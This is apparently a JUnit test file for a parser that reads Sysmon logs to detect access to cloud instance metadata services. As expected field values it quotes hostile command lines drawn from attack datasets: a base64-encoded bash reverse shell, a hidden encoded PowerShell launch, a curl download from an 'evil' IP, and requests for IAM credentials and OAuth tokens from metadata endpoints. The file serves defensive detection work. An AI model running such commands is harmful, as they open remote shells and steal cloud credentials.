package io.github.imdsdetect.sysmon;

import static io.github.imdsdetect.sysmon.CollectingSink.parseSample;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.imdsdetect.core.Field;
import io.github.imdsdetect.core.SimpleEvent;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * Runs the parser over the real and constructed files in {@code samples/sysmon}. The expected
 * counts come from reading each file with Python's json and xml.etree modules, independently of
 * this parser.
 */
class SysmonParserSamplesTest {
  private static final String IMDS = "169.254.169.254";

  private static List<Long> linesWithDestination(CollectingSink sink, String address) {
    return sink.events.stream()
        .filter(e -> address.equals(text(e.destinationAddress())))
        .map(e -> e.origin().line())
        .collect(Collectors.toList());
  }

  private static String text(CharSequence value) {
    return value == null ? null : value.toString();
  }

  private static SimpleEvent only(List<SimpleEvent> events) {
    assertEquals(1, events.size(), () -> "events: " + events);
    return events.get(0);
  }

  @Test
  void covenantNxlogCounts() {
    CollectingSink sink = parseSample("mordor_covenant_psremoting_grunt_lines2900-3650.json");

    assertEquals(751, sink.lines);
    assertEquals(61, sink.events.size());
    assertEquals(690, sink.ignored.size());
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), sink.truncated);
  }

  @Test
  void covenantNxlogIgnoredKinds() {
    Map<String, Long> kinds =
        parseSample("mordor_covenant_psremoting_grunt_lines2900-3650.json").ignoredKinds();

    assertEquals(176L, kinds.get("Sysmon event 10"));
    assertEquals(159L, kinds.get("Sysmon event 7"));
    assertEquals(42L, kinds.get("Security event 5156"));
    assertEquals(38L, kinds.get("security event 5156"));
    assertEquals(1L, kinds.get("System event 1500"));
    assertEquals(28, kinds.size());
  }

  @Test
  void covenantNxlogImdsConnections() {
    CollectingSink sink = parseSample("mordor_covenant_psremoting_grunt_lines2900-3650.json");

    assertEquals(List.of(48L, 49L, 542L, 543L, 699L, 719L), linesWithDestination(sink, IMDS));
    Map<Long, String> hosts =
        Map.of(
            48L, "IT001.shire.com",
            49L, "IT001.shire.com",
            542L, "HR001.shire.com",
            543L, "HR001.shire.com",
            699L, "ACCT001.shire.com",
            719L, "ACCT001.shire.com");
    for (long line : hosts.keySet()) {
      SimpleEvent event = only(sink.eventsAt(line));
      assertEquals("winhup.exe", text(event.processName()), "line " + line);
      assertEquals(
          "C:\\Program Files\\Amazon\\cfn-bootstrap\\winhup.exe",
          text(event.processExecutable()),
          "line " + line);
      assertEquals(80, event.destinationPort(), "line " + line);
      assertEquals(hosts.get(line), text(event.host()), "line " + line);
      assertEquals("NT AUTHORITY\\SYSTEM", text(event.user()), "line " + line);
      assertEquals("mordor_covenant_psremoting_grunt_lines2900-3650.json", event.origin().source());
    }
  }

  @Test
  void covenantNxlogLine48Fields() {
    SimpleEvent event =
        only(parseSample("mordor_covenant_psremoting_grunt_lines2900-3650.json").eventsAt(48));

    assertEquals("2019-12-05 01:53:48.481", text(event.time()));
    assertNull(event.commandLine());
    assertNull(event.dnsQueryName());
  }

  @Test
  void azureWindowsEventCounts() {
    CollectingSink sink = parseSample("mordor_log4shell_sysmon_win_azurela.json");

    assertEquals(487, sink.lines);
    assertEquals(9, sink.events.size());
    assertEquals(478, sink.ignored.size());
    assertEquals(292L, sink.ignoredKinds().get("Sysmon event 12"));
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), sink.truncated);
  }

  @Test
  void azureWindowsEventImdsConnections() {
    CollectingSink sink = parseSample("mordor_log4shell_sysmon_win_azurela.json");

    assertEquals(List.of(2L, 15L), linesWithDestination(sink, IMDS));
    for (long line : List.of(2L, 15L)) {
      SimpleEvent event = only(sink.eventsAt(line));
      assertEquals("powershell.exe", text(event.processName()), "line " + line);
      assertEquals(
          "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          text(event.processExecutable()),
          "line " + line);
      assertEquals(80, event.destinationPort(), "line " + line);
      assertEquals("WORKSTATION5", text(event.host()), "line " + line);
      assertEquals("NT AUTHORITY\\SYSTEM", text(event.user()), "line " + line);
    }
    assertEquals("2022-05-13T08:54:05.1350000Z", text(only(sink.eventsAt(2)).time()));
  }

  @Test
  void azureWindowsEventDnsQuery() {
    SimpleEvent event = only(parseSample("mordor_log4shell_sysmon_win_azurela.json").eventsAt(14));

    assertEquals("WORKSTATION5", text(event.dnsQueryName()));
    assertEquals("fe80::798a:6744:8c18:1b47;::ffff:192.168.2.5;", text(event.dnsAnswers()));
    assertEquals("tomcat9.exe", text(event.processName()));
    assertEquals("NT AUTHORITY\\LOCAL SERVICE", text(event.user()));
  }

  @Test
  void azureWindowsEventProcessCreation() {
    SimpleEvent event = only(parseSample("mordor_log4shell_sysmon_win_azurela.json").eventsAt(28));

    assertEquals("powershell.exe", text(event.processName()));
    assertTrue(
        text(event.commandLine())
            .startsWith("powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc "),
        () -> "command line: " + event.commandLine());
    assertEquals(-1, event.destinationPort());
  }

  @Test
  void sharpscOnlySecurityImdsEvents() {
    CollectingSink sink = parseSample("mordor_covenant_sharpsc_query_dcerpc_smb_svcctl.json");

    assertEquals(349, sink.lines);
    assertEquals(14, sink.events.size());
    assertEquals(335, sink.ignored.size());
    assertEquals(53L, sink.ignoredKinds().get("Security event 5156"));
    assertEquals(
        1L, sink.ignoredKinds().get("Microsoft-Windows-TaskScheduler/Operational event 129"));
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), linesWithDestination(sink, IMDS));
  }

  @Test
  void bitsadminCrlfCounts() {
    CollectingSink sink = parseSample("mordor_cmd_bitsadmin_download_psh_script.json");

    assertEquals(424, sink.lines);
    assertEquals(13, sink.events.size());
    assertEquals(411, sink.ignored.size());
    assertEquals(2L, sink.ignoredKinds().get("Sysmon event 23"));
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), linesWithDestination(sink, IMDS));
  }

  @Test
  void bitsadminProcessAndDns() {
    CollectingSink sink = parseSample("mordor_cmd_bitsadmin_download_psh_script.json");

    SimpleEvent process = only(sink.eventsAt(118));
    assertEquals("bitsadmin.exe", text(process.processName()));
    assertEquals("WORKSTATION5\\wardog", text(process.user()));
    assertEquals("WORKSTATION5", text(process.host()));
    assertEquals("2020-10-23 06:36:43.542", text(process.time()));
    assertTrue(text(process.commandLine()).startsWith("bitsadmin.exe  /transfer /Download "));

    SimpleEvent dns = only(sink.eventsAt(388));
    assertEquals("raw.githubusercontent.com", text(dns.dnsQueryName()));
    assertEquals("type:  5 github.map.fastly.net;::ffff:151.101.208.133;", text(dns.dnsAnswers()));
    assertEquals("svchost.exe", text(dns.processName()));
    assertNull(dns.user());

    SimpleEvent connection = only(sink.eventsAt(377));
    assertEquals("127.0.0.1", text(connection.destinationAddress()));
    assertEquals(61629, connection.destinationPort());
  }

  @Test
  void azureSyslogLinuxCounts() {
    CollectingSink sink = parseSample("mordor_log4shell_sysmon_linux_syslog_azurela.json");

    assertEquals(93, sink.lines);
    assertEquals(37, sink.events.size());
    assertEquals(56, sink.ignored.size());
    assertEquals(50L, sink.ignoredKinds().get("Sysmon event 5"));
    assertEquals(4L, sink.ignoredKinds().get("Sysmon event 11"));
    assertEquals(2L, sink.ignoredKinds().get("Sysmon event 23"));
    assertEquals(List.of(), sink.skipped);
  }

  /** Sysmon for Linux writes {@code &quot} without a semicolon on lines 65 and 71. */
  @Test
  void azureSyslogLinuxBareEntity() {
    SimpleEvent event =
        only(parseSample("mordor_log4shell_sysmon_linux_syslog_azurela.json").eventsAt(65));

    assertTrue(
        text(event.commandLine()).contains("root/scx \" SELECT PercentUserTime, "),
        () -> "command line: " + event.commandLine());
  }

  @Test
  void azureSyslogLinuxConnection() {
    SimpleEvent event =
        only(parseSample("mordor_log4shell_sysmon_linux_syslog_azurela.json").eventsAt(2));

    assertEquals("/opt/microsoft/mdatp/sbin/wdavdaemon", text(event.processExecutable()));
    assertEquals("wdavdaemon", text(event.processName()));
    assertEquals("104.46.127.225", text(event.destinationAddress()));
    assertEquals(443, event.destinationPort());
    assertEquals("UBUNTU5", text(event.host()));
    assertEquals("root", text(event.user()));
    assertEquals("2022-05-11 18:10:20.472", text(event.time()));
  }

  /**
   * Line 8 contains a process creation whose SyslogMessage was cut at 2,012 characters, inside
   * ParentCommandLine, after ParentImage.
   */
  @Test
  void azureSyslogLinuxCutMessage() {
    CollectingSink sink = parseSample("mordor_log4shell_sysmon_linux_syslog_azurela.json");

    assertEquals(List.of(new CollectingSink.Truncation(8, "SyslogMessage", -1)), sink.truncated);
    SimpleEvent event = only(sink.eventsAt(8));
    assertEquals("bash", text(event.processName()));
    assertEquals(
        "bash -c"
            + " {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}"
            + "|{base64,-d}|{bash,-i}",
        text(event.commandLine()));
    assertEquals("java", text(event.parentProcessName()));
    assertEquals("tomcat", text(event.user()));
  }

  @Test
  void azureSyslogLinuxProcessCreation() {
    CollectingSink sink = parseSample("mordor_log4shell_sysmon_linux_syslog_azurela.json");
    List<SimpleEvent> withCommandLine =
        sink.events.stream().filter(e -> e.commandLine() != null).collect(Collectors.toList());

    assertEquals(31, withCommandLine.size());
    for (SimpleEvent event : withCommandLine) {
      assertTrue(text(event.processExecutable()).startsWith("/"), event::toString);
      assertEquals(
          SysmonRecord.fileName(text(event.processExecutable())),
          text(event.processName()),
          event::toString);
    }
  }

  @Test
  void sigmaDirectIpCurl() {
    CollectingSink sink =
        parseSample("sigma_regression_proc_creation_win_curl_download_direct_ip_exec.json");

    assertEquals(66, sink.lines);
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), sink.ignored);
    SimpleEvent event = only(sink.events);
    assertEquals(1, event.origin().line());
    assertEquals("C:\\Windows\\System32\\curl.exe", text(event.processExecutable()));
    assertEquals("curl.exe", text(event.processName()));
    assertEquals(
        "curl  --output hello.txt https://12.34.56.78/hack/evil.txt", text(event.commandLine()));
    assertEquals("C:\\Windows\\System32\\cmd.exe", text(event.parentProcessExecutable()));
    assertEquals("cmd.exe", text(event.parentProcessName()));
    assertEquals("swachchhanda", text(event.host()));
    assertEquals("swachchhanda\\xodih", text(event.user()));
    assertEquals("2025-12-11 07:02:39.718", text(event.time()));
    assertEquals(-1, event.destinationPort());
  }

  @Test
  void sigmaLocalProxyCurl() {
    CollectingSink sink =
        parseSample("sigma_regression_proc_creation_win_curl_insecure_proxy_or_doh.json");

    assertEquals(List.of(), sink.skipped);
    SimpleEvent event = only(sink.events);
    assertEquals("curl.exe", text(event.processName()));
    assertEquals(
        "curl  --proxy-insecure -p -x http://127.0.0.1:1234 --silent -v --show-error"
            + " http://127.0.0.1:888/echo",
        text(event.commandLine()));
    assertEquals("swachchhanda\\xodih", text(event.user()));
  }

  /** Returns the expected field values shared by the constructed Winlogbeat and XML files. */
  private static List<Map<Field, String>> constructedWindowsEvents() {
    return List.of(
        fields(
            Field.TIME, "2024-03-14 09:21:07.498",
            Field.HOST, "web01.corp.example",
            Field.USER, "CORP\\alice",
            Field.PROCESS_NAME, "curl.exe",
            Field.PROCESS_EXECUTABLE, "C:\\Windows\\System32\\curl.exe",
            Field.COMMAND_LINE,
                "curl.exe http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            Field.PARENT_PROCESS_NAME, "cmd.exe",
            Field.PARENT_PROCESS_EXECUTABLE, "C:\\Windows\\System32\\cmd.exe"),
        fields(
            Field.TIME, "2024-03-14 09:22:41.217",
            Field.HOST, "web01.corp.example",
            Field.USER, "CORP\\alice",
            Field.PROCESS_NAME, "powershell.exe",
            Field.PROCESS_EXECUTABLE,
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            Field.COMMAND_LINE,
                "powershell.exe -Command \"Invoke-RestMethod -Headers @{Metadata='true'} -Uri"
                    + " 'http://169.254.169.254/metadata/identity/oauth2/token"
                    + "?api-version=2018-02-01"
                    + "&resource=https://management.azure.com/'\"",
            Field.PARENT_PROCESS_NAME, "explorer.exe",
            Field.PARENT_PROCESS_EXECUTABLE, "C:\\Windows\\explorer.exe"),
        fields(
            Field.TIME, "2024-03-14 09:23:03.612",
            Field.HOST, "web01.corp.example",
            Field.USER, "CORP\\alice",
            Field.PROCESS_NAME, "python.exe",
            Field.PROCESS_EXECUTABLE, "C:\\Program Files\\Python311\\python.exe",
            Field.DNS_QUERY_NAME, "metadata.google.internal",
            Field.DNS_ANSWERS, "::ffff:169.254.169.254;"),
        fields(
            Field.TIME, "2024-03-14 09:25:10.931",
            Field.HOST, "web01.corp.example",
            Field.USER, "NT AUTHORITY\\SYSTEM",
            Field.PROCESS_NAME, "amazon-ssm-agent.exe",
            Field.PROCESS_EXECUTABLE, "C:\\Program Files\\Amazon\\SSM\\amazon-ssm-agent.exe",
            Field.DESTINATION_ADDRESS, "169.254.169.254",
            Field.DESTINATION_PORT, "80"),
        fields(
            Field.TIME, "2024-03-14 09:26:44.669",
            Field.HOST, "web01.corp.example",
            Field.USER, "CORP\\alice",
            Field.PROCESS_NAME, "notepad.exe",
            Field.PROCESS_EXECUTABLE, "C:\\Windows\\System32\\notepad.exe",
            Field.COMMAND_LINE,
                "\"C:\\Windows\\System32\\notepad.exe\" C:\\Users\\alice\\Documents\\notes.txt",
            Field.PARENT_PROCESS_NAME, "explorer.exe",
            Field.PARENT_PROCESS_EXECUTABLE, "C:\\Windows\\explorer.exe"));
  }

  private static Map<Field, String> fields(Object... fieldsAndValues) {
    Map<Field, String> map = new EnumMap<>(Field.class);
    for (int i = 0; i < fieldsAndValues.length; i += 2) {
      map.put((Field) fieldsAndValues[i], (String) fieldsAndValues[i + 1]);
    }
    return map;
  }

  /** Returns the non-null fields of an event. */
  static Map<Field, String> fieldsOf(SimpleEvent event) {
    Map<Field, String> map = new EnumMap<>(Field.class);
    for (Field field : Field.values()) {
      CharSequence value = event.get(field);
      if (value != null) {
        map.put(field, value.toString());
      }
    }
    return map;
  }

  @Test
  void constructedWinlogbeatEvents() {
    CollectingSink sink = parseSample("constructed/winlogbeat_sysmon_imds.ndjson");

    assertEquals(5, sink.lines);
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), sink.ignored);
    assertEquals(
        constructedWindowsEvents(),
        sink.events.stream().map(SysmonParserSamplesTest::fieldsOf).collect(Collectors.toList()));
    assertEquals(
        List.of(1L, 2L, 3L, 4L, 5L),
        sink.events.stream().map(e -> e.origin().line()).collect(Collectors.toList()));
  }

  @Test
  void constructedXmlEvents() {
    CollectingSink sink = parseSample("constructed/sysmon_events_imds.xml");

    assertEquals(120, sink.lines);
    assertEquals(List.of(), sink.skipped);
    assertEquals(List.of(), sink.ignored);
    assertEquals(List.of(), sink.truncated);
    assertEquals(
        constructedWindowsEvents(),
        sink.events.stream().map(SysmonParserSamplesTest::fieldsOf).collect(Collectors.toList()));
    assertEquals(
        List.of(3L, 46L, 89L, 118L, 119L),
        sink.events.stream().map(e -> e.origin().line()).collect(Collectors.toList()));
  }

  @Test
  void constructedLinuxSyslogEvents() {
    CollectingSink sink = parseSample("constructed/sysmon_linux_syslog_imds.log");

    assertEquals(3, sink.lines);
    assertEquals(List.of(), sink.skipped);
    assertEquals(
        List.of(new CollectingSink.Report(2, "text line without a Sysmon event")), sink.ignored);
    assertEquals(2, sink.events.size());

    SimpleEvent process = only(sink.eventsAt(1));
    assertEquals("curl", text(process.processName()));
    assertEquals("/usr/bin/curl", text(process.processExecutable()));
    assertEquals(
        "curl -s -H Metadata-Flavor:Google"
            + " http://metadata.google.internal/computeMetadata/v1/instance"
            + "/service-accounts/default/token",
        text(process.commandLine()));
    assertEquals("bash", text(process.parentProcessName()));
    assertEquals("deploy", text(process.user()));
    assertEquals("app02", text(process.host()));

    SimpleEvent connection = only(sink.eventsAt(3));
    assertEquals(IMDS, text(connection.destinationAddress()));
    assertEquals(80, connection.destinationPort());
    assertEquals("2024-03-14 09:31:02.138", text(connection.time()));
  }

  @Test
  void everySampleEventHasOrigin() {
    for (String name :
        List.of(
            "mordor_covenant_psremoting_grunt_lines2900-3650.json",
            "mordor_log4shell_sysmon_win_azurela.json",
            "constructed/sysmon_events_imds.xml")) {
      CollectingSink sink = parseSample(name);
      for (SimpleEvent event : sink.events) {
        assertTrue(event.origin().line() > 0, event::toString);
        assertTrue(
            Objects.requireNonNull(event.origin().source())
                .endsWith(name.substring(name.lastIndexOf('/') + 1)),
            event::toString);
        assertTrue(event.processName() != null, event::toString);
      }
    }
  }
}
